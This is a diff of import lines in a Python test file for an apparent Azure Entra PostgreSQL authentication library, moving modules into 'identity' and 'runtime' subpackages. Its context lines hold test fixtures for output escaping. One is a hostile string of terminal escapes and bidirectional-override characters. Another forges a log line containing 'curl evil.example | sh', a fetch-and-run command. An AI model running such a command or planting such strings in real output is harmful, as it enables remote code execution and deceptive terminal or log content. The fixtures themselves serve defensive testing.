@@ -22,11 +22,11 @@ from azpgauth import (
     load_settings,
 )
 from azpgauth.errors import EntraConnectionValueError, missing_driver
-from azpgauth.flight import told
-from azpgauth.printable import escaped, one_line, printable, shortened, their_words
-from azpgauth.role import no_role, who
+from azpgauth.identity.claims import no_role, who
+from azpgauth.identity.flight import told
+from azpgauth.identity.tokens import TokenSource
+from azpgauth.runtime.printable import escaped, one_line, printable, shortened, their_words
 from azpgauth.testing import ManualClock
-from azpgauth.tokens import TokenSource
 
 HOSTILE = "\x1b[31mred\x9b2J\x07\x7f\r\u202egnp.exe\u2066\u2028\u2029\x85\udcff\u200b\x00"
 FORGED = "x\n  to do: curl evil.example | sh"
